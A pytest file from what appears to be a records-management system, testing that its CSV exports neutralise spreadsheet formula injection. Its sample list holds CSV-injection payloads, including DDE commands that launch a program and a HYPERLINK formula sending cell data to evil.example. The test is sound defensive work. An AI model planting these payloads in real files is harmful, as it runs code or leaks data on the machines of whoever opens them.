"""Names that are formulas: no table this system writes makes a spreadsheet run anything."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from pathlib import Path

import pytest

from access.account_import_files import ImportFiles
from access.audit_export import Format, lines
from access.audit_models import AuditEventRow
from access.copies import Copy
from records.archival import BESIDE, DOCUMENT
from records.outputs.read_tables import read_table
from records.outputs.tables import csv_of
from ui.web.screens.keep_copies import _as_csv
from vanthu.db import now

FORMULAS = (
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Bấm vào đây")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    'a",=1+1,"b',
    "a\r\n=1+1",
)


def calculated(table: str) -> list[str]:
    """Cells that a spreadsheet might calculate, however the rows and quotes fall."""
    rows: Iterable[list[str]] = csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(tuple("=+-@|%\t\r\n＝"))]


class Named:
    """The names of one account and one unit."""

    def __init__(self, name: str) -> None:
        self._name = name

    def account(self, _account_id: int | None) -> str:
        return self._name

    unit = account


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_name_is_calculated(formula: str, tmp_path: Path) -> None:
    files = ImportFiles(tmp_path / "ma.csv")
    row = ["2", formula, formula, formula, formula]
    files.append(0, [row], 0, [row])
    event = AuditEventRow(
        sequence=1, at=now(), account_id=1, unit_id=1, channel="page", action="view", result="done",
        document_id=1, detail="{}", previous_hash="0" * 64, hash="f" * 64,
    )  # fmt: skip
    copy = Copy(1, 1, "secret", formula, formula, "print", None, now())
    written = {
        "activation tokens": files.tokens.read_bytes().decode(),
        "refused rows": files.errors.read_bytes().decode(),
        "audit trail": "".join(lines([event], Named(formula), Format.CSV)),  # type: ignore[arg-type]
        "copy register": _as_csv([copy]).decode(),
        "metadata": csv_of([{element.name: formula for element in (*DOCUMENT, *BESIDE)}]).decode(),
    }
    for name, table in written.items():
        told = list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")))
        assert len(told) == 2, name
        assert any(formula.strip() in cell for cell in told[1]), f"{name}: the name is really in it"
        assert calculated(table) == [], name


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_table_that_comes_back_says_what_was_written(formula: str) -> None:
    (back,) = read_table(csv_of([{"docId": "1", "subject": formula}]))
    assert back.values["subject"] == formula.strip()
